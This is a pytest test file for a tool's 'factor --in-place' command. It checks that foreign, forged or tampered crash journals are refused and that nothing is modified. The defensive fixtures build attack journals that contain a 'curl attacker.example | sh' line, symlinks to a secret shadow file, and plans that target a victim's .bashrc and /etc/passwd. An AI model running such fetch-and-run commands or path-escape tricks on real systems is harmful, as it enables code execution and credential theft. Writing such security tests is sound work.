"""A `factor --in-place` journal that this omerender did not write for this tree is refused, and nothing is touched
(issue 31): one committed to a repository by a pull request, one copied from another tree, one whose targets leave
the PATHs. The refusal exits 1, leaves the journal for a human and says how to remove it."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest
from factor_fleet import fleet, killed_after_commit, listing
from use_cases import factor_shown

from omerender.commands.factor import Choices

JOURNAL = ".omerender-factor.journal"


def _snapshot(root: Path) -> dict[str, bytes | str]:
    """Every entry below ``root``: a file's bytes, a symlink's target, a folder as ``<dir>``."""
    out: dict[str, bytes | str] = {}
    for path in sorted(root.rglob("*")):
        rel = path.relative_to(root).as_posix()
        if path.is_symlink():
            out[rel] = "-> " + os.readlink(path)
        elif path.is_dir():
            out[rel] = "<dir>"
        else:
            out[rel] = path.read_bytes()
    return out


def _attack(tree: Path, victim: Path) -> None:
    """The journal of issue 31: its plan names a file and a new link outside the tree, its second staged entry a
    symlink to a secret, in the one-line-per-entry plan of earlier versions."""
    journal = tree / JOURNAL
    journal.mkdir()
    (journal / "0").write_text("curl attacker.example | sh\n", encoding="utf-8")
    os.symlink(victim / "shadow", journal / "1")
    plan = f"0\t{victim}/.bashrc\n1\t{victim}/new/dir/link\n"
    (journal / "plan").write_text(plan, encoding="utf-8")


def _victim(tmp_path: Path) -> Path:
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / ".bashrc").write_text("alias ll='ls -l'\n", encoding="utf-8")
    (victim / "shadow").write_text("root:$6$secret:19000::::::\n", encoding="utf-8")
    return victim


def _git(cwd: Path, *args: str) -> None:
    env = {**os.environ, "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}
    subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, env=env)


def _refused(result: object, journal: Path) -> None:
    text = str(result)
    assert getattr(result, "exit_code") == 1, text
    assert getattr(result, "stdout") == "", text
    assert "Traceback" not in text
    assert f"omerender: error: {journal}: not a journal omerender wrote for this tree" in text, text
    assert f"rm -r -- {journal}" in text, text  # how to remove it


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
def test_a_journal_committed_by_a_pull_request_is_refused_and_nothing_is_touched(tmp_path: Path) -> None:
    victim = _victim(tmp_path)
    repo = tmp_path / "repo"
    fleet(repo / "manifests")
    _attack(repo / "manifests", victim)
    _git(repo, "init", "-q")
    _git(repo, "add", "-A")
    _git(repo, "-c", "user.name=pr", "-c", "user.email=pr@example.com", "commit", "-q", "-m", "a pull request")
    checkout = tmp_path / "ci"
    _git(tmp_path, "clone", "-q", str(repo), str(checkout))
    assert (checkout / "manifests" / JOURNAL / "1").is_symlink()
    before, victim_before = _snapshot(checkout), _snapshot(victim)
    result = factor_shown(checkout / "manifests", Choices(in_place=True))
    _refused(result, checkout / "manifests" / JOURNAL)
    assert _snapshot(victim) == victim_before  # .bashrc as it was, no new/dir/link, no folder made
    assert _snapshot(checkout) == before  # the tree untouched: not factored, the journal left for a human
    again = factor_shown(checkout / "manifests", Choices(in_place=True))
    _refused(again, checkout / "manifests" / JOURNAL)  # every run refuses until a human removes it
    shutil.rmtree(checkout / "manifests" / JOURNAL)
    fixed = factor_shown(checkout / "manifests", Choices(in_place=True))
    assert fixed.exit_code == 0, str(fixed)
    assert (checkout / "manifests" / "profiles" / "sglang-profile.yaml").is_file()
    assert _snapshot(victim) == victim_before


def test_a_journal_in_the_format_of_earlier_versions_is_refused(tmp_path: Path) -> None:
    # a plan naming a target inside the tree is no more trusted than one naming a file outside
    tree = fleet(tmp_path / "tree")
    journal = tree / JOURNAL
    journal.mkdir()
    (journal / "0").write_text("kind: ConfigMap\n", encoding="utf-8")
    (journal / "plan").write_text(f"0\t{tree / 'runtimes' / 'sglang-small.yaml'}\n", encoding="utf-8")
    before = _snapshot(tree)
    _refused(factor_shown(tree, Choices(in_place=True)), journal)
    assert _snapshot(tree) == before
    assert "left its journal" in factor_shown(tree, Choices(dry_run=True)).stderr


def test_a_journal_folder_that_is_a_symlink_or_a_file_is_refused(tmp_path: Path) -> None:
    victim = _victim(tmp_path)
    for kind in ("symlink", "file"):
        tree = fleet(tmp_path / kind)
        if kind == "symlink":
            os.symlink(victim, tree / JOURNAL)
        else:
            (tree / JOURNAL).write_text("0\t/etc/passwd\n", encoding="utf-8")
        before, victim_before = _snapshot(tree), _snapshot(victim)
        _refused(factor_shown(tree, Choices(in_place=True)), tree / JOURNAL)
        assert _snapshot(tree) == before and _snapshot(victim) == victim_before
        assert listing(tree) == listing(tmp_path / kind)


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
def test_a_journal_of_a_killed_run_committed_and_checked_out_elsewhere_is_refused(tmp_path: Path) -> None:
    # the journal is real, but this checkout's: its folder and staged files have other inodes and times
    repo = tmp_path / "repo"
    fleet(repo / "manifests")
    killed_after_commit(repo / "manifests")
    _git(repo, "init", "-q")
    _git(repo, "add", "-A")
    _git(repo, "-c", "user.name=pr", "-c", "user.email=pr@example.com", "commit", "-q", "-m", "a pull request")
    checkout = tmp_path / "ci"
    _git(tmp_path, "clone", "-q", str(repo), str(checkout))
    before = _snapshot(checkout)
    _refused(factor_shown(checkout / "manifests", Choices(in_place=True)), checkout / "manifests" / JOURNAL)
    assert _snapshot(checkout) == before


def test_a_plan_forged_for_this_tree_and_its_journal_folder_is_still_refused(tmp_path: Path) -> None:
    # an attacker who guessed the real path of the checkout and the inode its journal folder gets: the staged
    # files' inodes and change times are what a checkout cannot reproduce
    made = fleet(tmp_path / "made")
    killed_after_commit(made)
    tree = fleet(tmp_path / "tree")
    shutil.copytree(made / JOURNAL, tree / JOURNAL)  # copy2 keeps modification times; inodes, change times differ
    victim = _victim(tmp_path)
    plan = json.loads((tree / JOURNAL / "plan").read_text(encoding="ascii"))
    folder = os.stat(tree / JOURNAL)
    plan.update(tree=str(tree.resolve()), device=folder.st_dev, inode=folder.st_ino, roots=[str(tree.resolve())])
    plan["entries"][0]["target"] = str(victim / ".bashrc")
    (tree / JOURNAL / "plan").write_text(json.dumps(plan), encoding="ascii")
    before, victim_before = _snapshot(tree), _snapshot(victim)
    _refused(factor_shown(tree, Choices(in_place=True)), tree / JOURNAL)
    assert _snapshot(tree) == before and _snapshot(victim) == victim_before


def test_a_staged_file_replaced_by_a_symlink_makes_the_journal_foreign(tmp_path: Path) -> None:
    tree = fleet(tmp_path / "tree")
    journal = killed_after_commit(tree)
    victim = _victim(tmp_path)
    (journal / "0").unlink()
    os.symlink(victim / "shadow", journal / "0")
    before = _snapshot(tree)
    _refused(factor_shown(tree, Choices(in_place=True)), journal)
    assert _snapshot(tree) == before


def test_an_edit_made_after_the_kill_is_never_overwritten(tmp_path: Path) -> None:
    tree = fleet(tmp_path / "tree")
    journal = killed_after_commit(tree)
    small, medium = tree / "runtimes" / "sglang-small.yaml", tree / "runtimes" / "sglang-medium.yaml"
    small.write_text(small.read_text(encoding="utf-8") + "# my edit after the crash\n", encoding="utf-8")
    before = _snapshot(tree)
    result = factor_shown(tree, Choices(in_place=True))
    assert result.exit_code == 1, str(result)
    assert f"omerender: error: {small}: changed since a killed factor --in-place staged its new text" in result.stderr
    assert f"rm -r -- {journal}" in result.stderr and "Traceback" not in result.stderr
    assert medium.as_posix() not in result.stderr  # only the file that changed is named
    assert _snapshot(tree) == before  # neither file replaced: the change stays one change
    shutil.rmtree(journal)  # as the message says: the edit is kept, factor runs on the tree as it is
    again = factor_shown(tree, Choices(in_place=True))
    assert again.exit_code == 0, str(again)
    assert "# my edit after the crash" in small.read_text(encoding="utf-8")
    assert "ome.io/inherit-from: sglang-profile" in small.read_text(encoding="utf-8")


def test_a_target_removed_or_edited_after_it_was_replaced_is_not_touched(tmp_path: Path) -> None:
    # killed after the commit and again (by hand here) after its first rename; then that file is edited
    tree = fleet(tmp_path / "tree")
    journal = killed_after_commit(tree)
    plan = json.loads((journal / "plan").read_text(encoding="ascii"))
    first = next(e for e in plan["entries"] if e["target"].endswith("sglang-medium.yaml"))
    os.replace(journal / first["staged"], first["target"])  # what the killed run's first rename did
    Path(first["target"]).write_text("edited\n", encoding="utf-8")
    before = _snapshot(tree)
    result = factor_shown(tree, Choices(in_place=True))
    assert result.exit_code == 1, str(result)
    assert f"{first['target']}: changed since a killed factor --in-place" in result.stderr
    assert _snapshot(tree) == before


def test_an_empty_journal_folder_left_by_a_kill_while_it_was_removed_goes(tmp_path: Path) -> None:
    # the last step removes the plan, then the folder: killed between the two, the folder is empty
    tree = fleet(tmp_path / "tree")
    (tree / JOURNAL).mkdir()
    result = factor_shown(tree, Choices(in_place=True))
    assert result.exit_code == 0, str(result)
    assert not (tree / JOURNAL).exists() and (tree / "profiles" / "sglang-profile.yaml").is_file()
